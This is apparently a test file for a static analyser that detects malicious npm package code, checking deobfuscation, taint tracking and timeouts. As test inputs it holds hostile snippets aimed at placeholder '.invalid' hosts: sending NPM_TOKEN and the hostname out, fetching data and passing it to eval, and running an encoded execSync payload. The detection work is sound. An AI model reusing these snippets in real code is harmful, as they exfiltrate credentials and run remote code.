import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { analyzeSource, analyzeJavaScript } from '../../../src/analysis/javascript/index.js';
import type { JsEvent } from '../../../src/analysis/javascript/facts.js';
import { SRC } from '../../../src/analysis/javascript/sources.js';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { FIXTURES, npmContext, treeFromFiles } from './helpers.js';

const OPTS = { maxParseBytes: 2 * 1024 * 1024, maxDecodedBytes: 1 << 20, maxDecodeDepth: 4, deadline: Number.POSITIVE_INFINITY, force: true };
const events = (code: string): JsEvent[] => analyzeSource(code, 'x.js', OPTS).facts.events;
const sink = (code: string, kind: string): JsEvent | undefined => events(code).find((e) => e.kind === 'sink' && e.sink === kind);

describe('JavaScript facts and deobfuscation', () => {
  it('resolves module aliases (CJS destructuring, ESM imports, node: prefix)', () => {
    assert.equal(sink("const { exec: run } = require('node:child_process'); run('ls')", 'exec')?.name, 'child_process.exec');
    assert.equal(sink("import * as cp from 'child_process'; cp.spawnSync('ls')", 'exec')?.name, 'child_process.spawnSync');
    assert.equal(sink("import { request } from 'https'; request({ hostname: 'a.invalid' })", 'network')?.destinations[0]?.host, 'a.invalid');
  });
  it('folds base64, hex, char codes, escapes, reversed and joined strings', () => {
    const urls = [
      "Buffer.from('aHR0cHM6Ly9hLmludmFsaWQv', 'base64').toString()",
      "Buffer.from('68747470733a2f2f612e696e76616c69642f', 'hex').toString('utf8')",
      'String.fromCharCode(104,116,116,112,115,58,47,47,97,46,105,110,118,97,108,105,100,47)',
      "'\\x68\\x74\\x74\\x70\\x73\\x3a\\x2f\\x2f\\x61\\x2e\\x69\\x6e\\x76\\x61\\x6c\\x69\\x64\\x2f'",
      "'/dilavni.a//:sptth'.split('').reverse().join('')",
      "atob('aHR0cHM6Ly9hLmludmFsaWQv')",
    ];
    for (const u of urls) {
      const e = sink(`const u = ${u}; fetch(u);`, 'network');
      assert.equal(e?.destinations[0]?.host, 'a.invalid', u);
      assert.ok((e?.decodedDepth ?? 0) > 0, u);
    }
    assert.equal(sink("const p = ['https://', 'a.invalid', '/x'].join(''); fetch(p)", 'network')?.destinations[0]?.host, 'a.invalid');
  });
  it('inlines one-line decoder helpers and re-analyses decoded code', () => {
    const e = sink("function d(s){return Buffer.from(s,'hex').toString()} const m = require(d('6368696c645f70726f63657373'));", 'require');
    assert.equal(e?.text, 'child_process');
    const inner = events("eval(atob('cmVxdWlyZSgiY2hpbGRfcHJvY2VzcyIpLmV4ZWNTeW5jKCJpZCIp'))");
    assert.ok(inner.some((x) => x.sink === 'eval' && x.decodedDepth > 0));
    assert.ok(inner.some((x) => x.sink === 'exec' && x.name === 'child_process.execSync'), 'decoded payload analysed');
  });
  it('resolves obfuscator.io string-array rotation and decoder aliases', () => {
    const code = readFileSync(join(FIXTURES, 'obfuscator-io', 'package', 'index.js'), 'utf8');
    const r = analyzeSource(code, 'index.js', OPTS);
    assert.equal(r.facts.obfuscation.stringArray, true);
    const e = r.facts.events.find((x) => x.sink === 'network');
    assert.equal(e?.name, 'fetch');
    assert.equal(e?.text, 'https://x.invalid/collect');
    assert.ok((e?.taint ?? 0) & SRC.envAll);
  });
  it('tracks credentials and host data through variables, objects and callbacks', () => {
    const e = sink("const os=require('os');const h=os.hostname();const body={h, t: process.env.NPM_TOKEN};require('https').request({hostname:'x.invalid'}).end(JSON.stringify(body));", 'network');
    assert.ok(e !== undefined);
    const all = events("const os=require('os');const h=os.hostname();const body={h, t: process.env.NPM_TOKEN};const r=require('https').request({hostname:'x.invalid'});r.end(JSON.stringify(body));");
    const end = all.find((x) => x.name === 'request.end');
    assert.ok(end !== undefined && (end.taint & SRC.hostinfo) !== 0 && (end.taint & SRC.envCred) !== 0);
    assert.equal((sink("fetch('https://x.invalid/' + process.env.NODE_ENV)", 'network')?.taint ?? 0) & SRC.envCred, 0);
    const rce = sink("require('https').get('https://x.invalid', (res) => { res.on('data', (c) => eval(c)); });", 'eval');
    assert.ok(rce !== undefined && (rce.taint & SRC.netdata) !== 0);
  });
  it('marks top-level code, IIFEs and functions called at top level', () => {
    const ev = events("function run(){ fetch('https://a.invalid') } function later(){ fetch('https://b.invalid') } run(); (function(){ fetch('https://c.invalid') })();");
    const top = new Map(ev.filter((e) => e.sink === 'network').map((e) => [e.destinations[0]?.host, e.topLevel]));
    assert.deepEqual([...top], [['a.invalid', true], ['b.invalid', false], ['c.invalid', true]]);
  });
  it('falls back to a token-level scan when the file does not parse', () => {
    const r = analyzeSource("const x = <div/>; eval(atob('Y29uc29sZS5sb2coMSk='))", 'x.js', OPTS);
    assert.equal(r.facts.mode, 'tokens');
    assert.ok(r.facts.events.some((e) => e.sink === 'eval' && e.decodedDepth > 0));
  });
  it('scans multi-MB minified bundles in bounded time without calling them obfuscated', async () => {
    const chunk = 'var a=function(b,c){return b+c},d=a(1,2),e={f:function(g){return g*2}};if(typeof window!=="undefined"){window.x=d}';
    const big = `${chunk}\n`.repeat(Math.ceil((3 * 1024 * 1024) / (chunk.length + 1)));
    const t0 = performance.now();
    const out = await analyzeJavaScript(treeFromFiles({ 'package.json': '{"name":"b","main":"dist/b.min.js"}', 'dist/b.min.js': `fetch('https://api.example.com');${big}`, 'dist/c.min.js': big.slice(0, 400_000) }), npmContext());
    assert.ok(performance.now() - t0 < 30_000);
    assert.deepEqual(out.findings.map((f) => f.ruleId), []);
  });
  it('returns within the analysis deadline', async () => {
    const code = `fetch('https://a.invalid');${'x=[1,2,3].map(function(y){return y+1});'.repeat(20_000)}`;
    const out = await analyzeJavaScript(treeFromFiles({ 'package.json': '{"name":"b"}', 'a.js': code }), npmContext({ deadline: performance.now() - 1 }));
    assert.ok(out.errors.some((e) => e.code === 'E_PARSE_TIMEOUT'));
  });
});
